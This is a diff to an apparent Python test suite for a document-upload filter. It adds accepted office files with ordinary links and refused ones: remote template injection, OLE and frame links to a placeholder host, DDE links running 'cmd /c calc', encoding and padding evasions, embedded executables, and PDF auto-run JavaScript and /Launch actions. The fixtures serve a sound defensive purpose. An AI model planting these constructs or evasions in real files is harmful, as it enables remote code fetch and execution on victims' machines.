@@ -115,6 +115,41 @@ DOCUMENTS = [
     good("CSV of signs", "a.csv", lambda: b"+|,@,-|-|\n" * 20_000, CSV),
 ]
 
+DISK = "file:///C:\\Users\\ana\\"
+# What offices tie to their documents every day, and what some put in.
+DOCUMENTS += [
+    good("DOCX with a link", "a.docx", lambda: docs.tied_docx("hyperlink", "https://city.example/a"), docs.WORD),
+    good(
+        "DOCX with a picture of a page", "a.docx", lambda: docs.tied_docx("image", "https://a.example/a.png"), docs.WORD
+    ),
+    good(
+        "DOCX of a template on a disk",
+        "a.docx",
+        lambda: docs.tied_docx("attachedTemplate", DISK + "Informe.dotx", part="settings.xml"),
+        docs.WORD,
+    ),
+    good(
+        "DOCX with a chart that names its workbook",
+        "a.docx",
+        lambda: docs.tied_docx("oleObject", DISK + "Avance%202026.xlsx", part="charts/chart1.xml"),
+        docs.WORD,
+    ),
+    good("DOCX with an object", "a.docx", lambda: docs.docx({"word/embeddings/oleObject1.bin": docs.OLE}), docs.WORD),
+    good(
+        "XLSX that reads another one",
+        "a.xlsx",
+        lambda: docs.xlsx(
+            {
+                "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>",
+                "xl/externalLinks/_rels/externalLink1.xml.rels": docs.tied("externalLinkPath", "Padr%C3%B3n.xlsx"),
+            }
+        ),
+        docs.EXCEL,
+    ),
+    good("XLSX that writes of ddeLink", "a.xlsx", lambda: docs.xlsx({"xl/s.xml": b"<t>&lt;ddeLink ></t>"}), docs.EXCEL),
+    good("PDF of chance", "a.pdf", lambda: docs.pdf(body=b"\x9d\x01\xfe\x88/JS(\x00\xff /JSON /Launched /J"), PDF),
+]
+
 CHART = "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx"
 # Slides, where somebody presents; nowhere else.
 SLIDES = [
@@ -298,6 +333,99 @@ REFUSED = [
         ("formula behind kept zeros", "a.csv", lambda: b'="001"&WEBSERVICE("http://e.example")\n'),
         ("formula after an old line end", "a.csv", lambda: b"a\r=1+1\r"),
         ("table with @", "a.csv", lambda: b"a\n@SUM(1+1)\n"),
+    ),
+]
+
+PADDED = "word/_rels/document.xml.rels"
+REFUSED += [
+    *bad(
+        Reason.FETCHES,
+        (
+            "template of a server",
+            "a.docx",
+            lambda: docs.tied_docx("attachedTemplate", "https://e.example/t.dotm", part="settings.xml"),
+        ),
+        (
+            "template of a server of Windows",
+            "a.docx",
+            lambda: docs.tied_docx("attachedTemplate", "file:///%5C%5Ce.example%5Ct.dotm", part="settings.xml"),
+        ),
+        ("object of a server", "a.docx", lambda: docs.tied_docx("oleObject", "mhtml:http://e.example/a!x-usc:b")),
+        ("object of a disk", "a.docx", lambda: docs.tied_docx("oleObject", DISK + "a.xlsx")),
+        (
+            "chart of a server",
+            "a.docx",
+            lambda: docs.tied_docx("oleObject", "https://e.example/a.xlsx", part="charts/chart1.xml"),
+        ),
+        ("frame", "a.docx", lambda: docs.tied_docx("frame", "https://e.example/")),
+        ("picture of a server of Windows", "a.docx", lambda: docs.tied_docx("image", "file://e.example/a.png")),
+        ("picture of two strokes", "a.docx", lambda: docs.tied_docx("image", "\\\\e.example\\a.png")),
+        (
+            "object spelled otherwise",
+            "a.docx",
+            lambda: docs.docx(
+                {PADDED: docs.tied("oleObject", "http://e.example/").replace(b"External", b"&#69;xternal")}
+            ),
+        ),
+        (
+            "object in two bytes a sign",
+            "a.docx",
+            lambda: docs.docx(
+                {
+                    PADDED: docs.tied("oleObject", "http://e.example/")
+                    .decode()
+                    .replace("UTF-8", "UTF-16")
+                    .encode("utf-16")
+                }
+            ),
+        ),
+        (
+            "frame within a chart",
+            "a.docx",
+            lambda: docs.docx(
+                {EMBEDDED: docs.xlsx({"xl/_rels/workbook.xml.rels": docs.tied("frame", "http://e.example/")})}
+            ),
+        ),
+        (
+            "table that starts a program of old",
+            "a.xlsx",
+            lambda: docs.xlsx(
+                {"xl/externalLinks/externalLink1.xml": b'<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}
+            ),
+        ),
+        (
+            "table that starts one, in two bytes a sign",
+            "a.xlsx",
+            lambda: docs.xlsx({"xl/e.xml": '<ddeLink ddeService="cmd"/>'.encode("utf-16")}),
+        ),
+        (
+            "table that starts one where it is unpacked in two pieces",
+            "a.xlsx",
+            lambda: docs.xlsx({"xl/e.xml": b" " * (64 * 1024 - 4) + b'<ddeLink ddeService="cmd"/>'}),
+        ),
+        (
+            "ODS that starts a program",
+            "a.ods",
+            lambda: docs.ods({"content.xml": b'<office:dde-source office:dde-application="cmd"/>'}),
+        ),
+    ),
+    *bad(
+        Reason.PROGRAM,
+        ("program in a DOCX", "a.docx", lambda: docs.docx({"word/embeddings/payload.exe": b"MZ\x90\0"})),
+        ("program as a picture in a DOCX", "a.docx", lambda: docs.docx({"word/media/image1.png": b"MZ\x90\0"})),
+        ("program of Linux in an ODS", "a.ods", lambda: docs.ods({"Pictures/a.png": b"\x7fELF\2\1"})),
+        ("script in a DOCX", "a.docx", lambda: docs.docx({"word/embeddings/payload.js": b"new ActiveXObject()"})),
+        ("packed file in a DOCX", "a.docx", lambda: docs.docx({"word/embeddings/oleObject1.bin": docs.PACKED})),
+        ("packed file in an ODS", "a.ods", lambda: docs.ods({"Object 1": docs.PACKED})),
+        (
+            "PDF that runs a script when it opens",
+            "a.pdf",
+            lambda: docs.pdf(body=b"9 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"),
+        ),
+        ("PDF whose script is named in numbers", "a.pdf", lambda: docs.pdf(body=b"<</S/J#61vaScr#69pt/J#53 9 0 R>>\n")),
+        ("PDF with a script of a film", "a.pdf", lambda: docs.pdf(body=b"<</S/Rendition/JS 9 0 R>>\n")),
+        ("PDF that starts a program", "a.pdf", lambda: docs.pdf(body=b"<</S /Launch /F(cmd.exe)>>\n")),
+        ("PDF that carries files", "a.pdf", lambda: docs.pdf(body=b"<</Type/EmbeddedFile/Length 2>>\n")),
     ),
 ]
 
